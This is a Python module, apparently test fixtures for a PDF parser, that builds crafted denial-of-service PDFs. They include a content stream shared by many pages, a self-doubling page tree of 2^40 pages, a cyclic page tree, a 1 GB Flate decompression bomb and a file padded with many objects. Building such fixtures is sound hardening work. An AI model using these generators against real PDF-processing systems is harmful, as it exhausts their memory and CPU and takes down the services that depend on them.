"""Crafted PDFs that cost far more to read than their size: the attacks of issue 15.

Written byte by byte (objects, a correct xref table) so that each file is exactly the
attack: pages sharing one huge content stream, a page tree whose nodes are reached
twice, and a Flate bomb.
"""

from __future__ import annotations

import zlib


def pdf_file(objects: list[bytes]) -> bytes:
    """A PDF of `objects` (numbered from 1; object 1 is the catalog)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"", *, compress: bool = True) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def shared_content(pages: int = 100, content_bytes: int = 5 * 1024 * 1024) -> bytes:
    """`pages` pages whose /Contents are all one stream of `content_bytes` of text."""
    line = b"BT /F1 1 Tf 1 0 0 1 10 10 Tm (a) Tj ET\n"
    content = line * (content_bytes // len(line))
    # 1 catalog, 2 pages, 3 font, 4 content, 5.. pages
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(pages))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
               FONT, stream(content)]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                b"/Resources << /Font << /F1 3 0 R >> >> >>"] * pages
    return pdf_file(objects)


def page_tree_dag(levels: int = 40) -> bytes:
    """A page tree where every node has the same node twice as kids: 2^levels pages."""
    # 1 catalog, 2 content, 3 the page, 4.. the Pages nodes (4 is the root)
    objects = [b"<< /Type /Catalog /Pages 4 0 R >>", stream(b"BT ET"),
               b"<< /Type /Page /Parent 4 0 R /MediaBox [0 0 595 842] /Contents 2 0 R >>"]
    for level in range(levels):
        number = 4 + level
        child = number + 1 if level < levels - 1 else 3
        objects.append(b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count %d >>"
                       % (child, child, 2 ** (levels - level)))
    return pdf_file(objects)


def page_tree_cycle() -> bytes:
    """A page tree node that is its own kid."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
    return pdf_file(objects)


def inflating_zeros(size: int) -> bytes:
    """A valid zlib stream of `size` zero bytes (a multiple of 1 MB), built in a blink:
    one raw deflate block of 1 MB after a full flush is the same bytes every time."""
    block = bytes(1024 * 1024)
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = raw.compress(block) + raw.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(size // len(block)):
        checksum = zlib.adler32(block, checksum)
    return (b"\x78\xda" + piece * (size // len(block)) + raw.flush()
            + checksum.to_bytes(4, "big"))


def flate_bomb(inflated: int = 1024**3) -> bytes:
    """One ordinary page, and an image whose Flate stream inflates to `inflated` bytes."""
    data = inflating_zeros(inflated)
    side = int((inflated // 3) ** 0.5)
    image = (b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB "
             b"/BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n"
             % (side, side, len(data)) + data + b"\nendstream")
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
               b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
               stream(b"q 100 0 0 100 0 0 cm /Im1 Do Q"), image]
    return pdf_file(objects)


def many_objects(count: int) -> bytes:
    """One page and `count` tiny unused objects."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
    objects += [b"0"] * count
    return pdf_file(objects)
